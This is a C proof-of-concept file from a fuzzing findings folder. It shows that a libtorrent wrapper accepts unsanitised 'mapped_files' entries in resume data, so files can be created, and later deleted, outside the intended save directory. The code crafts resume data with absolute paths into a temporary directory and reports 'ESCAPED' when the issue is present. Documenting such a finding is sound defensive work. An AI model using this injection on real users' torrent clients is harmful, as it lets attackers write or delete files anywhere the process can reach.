/* Finding: resume data can make libtorrent create files outside save_path.
 *
 * libtorrent's read_resume_data takes "mapped_files" (a list of new names, by
 * file index) without sanitising it, so an absolute name - or one with ".." -
 * places that file anywhere the process may write. btx_add_with_resume passes
 * resume data straight to it. Zero-size files are created at once (even for
 * a paused torrent); downloaded data would be written there too, and
 * btx_remove(..., delete_files=1) deletes at those paths. Existing files were
 * not truncated in this test.
 *
 * Not a CI test (it writes under /tmp/btx-escape-XXXXXX). Build and run:
 *   ci/build-lib.sh
 *   cc -Iinclude fuzz/findings/resume_mapped_files.c -Ltarget/dist -ltorrentxt \
 *      -Wl,-rpath,$PWD/target/dist -o /tmp/rmf && /tmp/rmf
 * Exit status 1 and "ESCAPED" mean the behaviour is still there. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "torrentxt.h"
#include "torrentxt_decode.h"

static void sleep_ms(int ms) {
  struct timespec ts = {ms / 1000, (long)(ms % 1000) * 1000000L};
  nanosleep(&ts, NULL);
}

static void touch(const char *p) {
  FILE *f = fopen(p, "wb");
  if (!f) exit(2);
  fclose(f);
}

int main(void) {
  char base[] = "/tmp/btx-rmf-XXXXXX", escape[] = "/tmp/btx-escape-XXXXXX";
  if (!mkdtemp(base) || !mkdtemp(escape)) return 2;
  char p[600], content[512], dl[512];
  snprintf(content, sizeof content, "%s/folder", base);
  snprintf(dl, sizeof dl, "%s/dl", base);
  mkdir(content, 0755);
  mkdir(dl, 0755);
  snprintf(p, sizeof p, "%s/a.txt", content);
  FILE *f = fopen(p, "wb");
  if (!f) return 2;
  fputs("some content that is not empty\n", f);
  fclose(f);
  snprintf(p, sizeof p, "%s/empty.txt", content);
  touch(p);

  static unsigned char tor[65536];
  int n = btx_create_torrent(content, 16384, 64 /* v1 only */, "", tor, sizeof tor);
  int s = btx_session_new();
  btx_set_str(s, "listen_interfaces", "127.0.0.1:0");
  int h = n > 0 ? btx_add_torrent_file_ex(s, tor, n, dl, "16", "48") : 0;
  if (h <= 0 || btx_save_resume(h) != BTX_OK) return 2;

  /* the resume data, from the resumeDataReady event (bounded wait) */
  static unsigned char buf[1 << 20];
  unsigned char *rd = NULL;
  unsigned rl = 0;
  for (int i = 0; i < 500 && !rd; i++) {
    int ev = btx_pop_alerts(s, buf, sizeof buf);
    if (ev <= 0) {
      sleep_ms(20);
      continue;
    }
    btxd_reader r = btxd_make(buf, sizeof buf);
    unsigned count = btxd_u16(&r);
    for (unsigned k = 0; k < count && !r.bad; k++) {
      unsigned code = btxd_u16(&r), bl = btxd_len(&r);
      const unsigned char *b = btxd_take(&r, bl);
      if (!b || code != BTX_EVENT_RESUME_DATA_READY) continue;
      btxd_reader rr = btxd_make(b, bl);
      btxd_field fl[32];
      int nf = btxd_record(&rr, fl, 32);
      if (nf > 32) nf = 32;
      const btxd_field *x = nf > 0 ? btxd_find(fl, nf, BTX_EVKEY_RESUME_DATA) : NULL;
      if (x) {
        rd = malloc(x->len);
        memcpy(rd, x->value, x->len);
        rl = x->len;
      }
    }
  }
  if (!rd) return 2;
  btx_remove(s, h, 0);
  sleep_ms(500);

  /* the same resume data with every file renamed into `escape` */
  char mf[1024], a[256], b[256];
  snprintf(a, sizeof a, "%s/file-0", escape);
  snprintf(b, sizeof b, "%s/file-1", escape);
  int ml = snprintf(mf, sizeof mf, "12:mapped_filesl%zu:%s%zu:%se", strlen(a), a, strlen(b), b);
  unsigned char *nr = malloc(rl + (size_t)ml);
  nr[0] = 'd';
  memcpy(nr + 1, mf, (size_t)ml);
  memcpy(nr + 1 + ml, rd + 1, rl - 1);
  int h2 = btx_add_with_resume(s, nr, (int)(rl + (unsigned)ml), dl);
  printf("re-added from resume data with mapped_files: handle %d\n", h2);
  sleep_ms(2000);
  struct stat st;
  int escaped = stat(a, &st) == 0 || stat(b, &st) == 0;
  printf("%s: %s/file-0 %s, file-1 %s (save_path was %s)\n", escaped ? "ESCAPED" : "contained", escape,
         stat(a, &st) == 0 ? "exists" : "absent", stat(b, &st) == 0 ? "exists" : "absent", dl);
  btx_session_free(s);
  char cmd[1200];
  snprintf(cmd, sizeof cmd, "rm -rf '%s' '%s'", base, escape);
  if (system(cmd) != 0) fprintf(stderr, "could not clean up %s %s\n", base, escape);
  free(rd);
  free(nr);
  return escaped ? 1 : 0;
}
